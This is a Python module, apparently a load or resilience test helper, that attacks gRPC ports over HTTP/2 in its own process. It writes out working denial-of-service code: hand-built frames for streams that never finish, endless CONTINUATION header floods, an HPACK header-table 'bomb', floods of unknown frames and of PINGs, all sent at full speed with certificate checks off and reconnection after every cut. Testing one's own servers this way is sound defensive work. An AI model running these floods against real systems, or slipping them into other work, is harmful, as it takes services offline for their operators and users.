"""Attackers at the gRPC ports, in a process of their own: frames as bytes, sent at full speed.

What is cut is opened again until the time is over.
"""

import contextlib
import os
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import Future, ProcessPoolExecutor
from dataclasses import dataclass, field
from multiprocessing import get_context

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _SETTINGS, _PING, _CONTINUATION, _DATA, _WINDOW = 1, 4, 6, 9, 0, 8
_FRAME = 16_384
_AGAIN_SECONDS = 0.02
_NICE = 10
"""Attackers have machines of their own: here they take what of the processors is left over."""


@dataclass(frozen=True, slots=True)
class Attack:
    """What is sent, to whom, and as whom: with a token, or with a certificate (files, PEM)."""

    kind: str
    address: str
    source: str
    path: str
    token: str = ""
    certificate: str = ""
    connections: int = 4
    seconds: float = 3.5
    announced: int = 7_900_000


@dataclass(slots=True)
class Outcome:
    """How often a connection was cut, and how many bytes went out."""

    cut: int = 0
    sent: int = 0
    reasons: list[str] = field(default_factory=list)


def _frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    head = struct.pack("!I", len(body))[1:] + bytes((kind, flags)) + struct.pack("!I", stream)
    return head + body


def _length(number: int) -> bytes:
    if number < 127:
        return bytes((number,))
    out, left = [127], number - 127
    while left >= 128:
        out.append(left % 128 | 128)
        left //= 128
    return bytes((*out, left))


def _header(name: bytes, value: bytes, first: int = 0) -> bytes:
    return bytes((first,)) + _length(len(name)) + name + _length(len(value)) + value


def _head(attack: Attack) -> bytes:
    found = [
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":path", attack.path.encode()),
        (b":authority", b"x"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    ]
    if attack.token:
        found.append((b"authorization", f"Bearer {attack.token}".encode()))
    return b"".join(_header(*one) for one in found)


class _Connection:
    """One connection and the windows that the server gives."""

    def __init__(self, attack: Attack) -> None:
        host, _, port = attack.address.rpartition(":")
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if attack.certificate:
            context.load_cert_chain(attack.certificate)
        plain = socket.create_connection(
            (host, int(port)), timeout=10, source_address=(attack.source, 0)
        )
        self.socket = context.wrap_socket(plain, server_hostname="x")
        self.socket.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
        self.windows = {0: 65_535}
        self._first = 65_535
        self._unread = b""

    def listen(self, seconds: float) -> None:
        """Take what the server says for a moment; answers its SETTINGS and PINGs."""
        self.socket.settimeout(seconds)
        with contextlib.suppress(TimeoutError):
            found = self.socket.recv(1 << 16)
            if not found:
                raise ConnectionError("the server closed it")
            self._unread += found
        self.socket.settimeout(10)
        while len(self._unread) >= 9:
            size = 9 + int.from_bytes(self._unread[:3])
            if len(self._unread) < size:
                return
            self._take(self._unread[:size])
            self._unread = self._unread[size:]

    def _take(self, frame: bytes) -> None:
        kind, flags, body = frame[3], frame[4], frame[9:]
        stream = int.from_bytes(frame[5:9])
        if kind == _SETTINGS and not flags & 1:
            for name, value in struct.iter_unpack("!HI", body):
                if name == 4:
                    for one in self.windows.keys() - {0}:
                        self.windows[one] += value - self._first
                    self._first = value
            self.socket.sendall(_frame(_SETTINGS, 1, 0))
        elif kind == _WINDOW:
            self.windows[stream] = self.window(stream) + int.from_bytes(body)
        elif kind == _PING and not flags & 1:
            self.socket.sendall(_frame(_PING, 1, 0, body))

    def window(self, stream: int) -> int:
        return self.windows.setdefault(stream, self._first)


def _messages_that_do_not_end(attack: Attack, out: Outcome, until: float) -> None:
    """32 calls, on each a message whose last byte never comes."""
    there = _Connection(attack)
    left: dict[int, int] = {}
    for stream in range(1, 65, 2):
        there.socket.sendall(
            _frame(_HEADERS, 4, stream, _head(attack))
            + _frame(_DATA, 0, stream, b"\0" + struct.pack("!I", attack.announced))
        )
        there.windows[stream] = there.window(stream) - 5
        there.windows[0] -= 5
        left[stream] = attack.announced - 1
    while time.monotonic() < until:
        there.listen(0.002)
        for stream, missing in left.items():
            size = min(missing, there.window(stream), there.windows[0], _FRAME)
            if size > 0:
                there.socket.sendall(_frame(_DATA, 0, stream, bytes(size)))
                left[stream] = missing - size
                there.windows[stream] -= size
                there.windows[0] -= size
                out.sent += size


def _over_and_over(
    begin: Callable[[Attack], bytes], again: bytes
) -> Callable[[Attack, Outcome, float], None]:
    def run(attack: Attack, out: Outcome, until: float) -> None:
        there = _Connection(attack)
        there.socket.sendall(begin(attack))
        while time.monotonic() < until:
            there.socket.sendall(again)
            out.sent += len(again)

    return run


def _open_head(attack: Attack) -> bytes:
    return _frame(_HEADERS, 0, 1, _head(attack))


def _bombs(attack: Attack, out: Outcome, until: float) -> None:
    """A header of 4 KB in the table, then heads of 16,000 references to it."""
    there = _Connection(attack)
    big = _header(b"x-bomb", b"y" * 4000, 0x40)
    there.socket.sendall(_frame(_HEADERS, 5, 1, _head(attack) + big))
    stream = 1
    while time.monotonic() < until:
        stream += 2
        bomb = _frame(_HEADERS, 5, stream, _head(attack) + b"\xbe" * 15_000)
        there.socket.sendall(bomb)
        out.sent += len(bomb)


KINDS: dict[str, Callable[[Attack, Outcome, float], None]] = {
    "messages that do not end": _messages_that_do_not_end,
    "heads that do not end": _over_and_over(
        _open_head, _frame(_CONTINUATION, 0, 1, _header(b"x-a", b"y" * 16_000)) * 8
    ),
    "heads that do not end, in small frames": _over_and_over(
        _open_head, _frame(_CONTINUATION, 0, 1, _header(b"a", b"b")) * 5_000
    ),
    "heads that unfold": _bombs,
    "unknown frames": _over_and_over(lambda _: b"", _frame(0x77, 0, 0, bytes(16_000)) * 8),
    "pings": _over_and_over(lambda _: b"", _frame(_PING, 0, 0, bytes(8)) * 4_000),
}


def _repeat(attack: Attack, out: Outcome, until: float) -> None:
    while time.monotonic() < until:
        try:
            KINDS[attack.kind](attack, out, until)
        except OSError as error:
            out.cut += 1
            out.reasons = [*out.reasons, str(error)][-5:]
            threading.Event().wait(_AGAIN_SECONDS)


def _run(attack: Attack) -> Outcome:
    os.nice(_NICE)
    until, out = time.monotonic() + attack.seconds, Outcome()
    threads = [
        threading.Thread(target=_repeat, args=(attack, out, until), daemon=True)
        for _ in range(attack.connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.1, until + 1 - time.monotonic()))
    return out


@contextlib.contextmanager
def attacked(attack: Attack) -> Iterator["Future[Outcome]"]:
    """The attack goes on while the context lasts."""
    with ProcessPoolExecutor(1, mp_context=get_context("spawn")) as pool:
        pool.submit(len, "").result()  # it has started
        yield pool.submit(_run, attack)
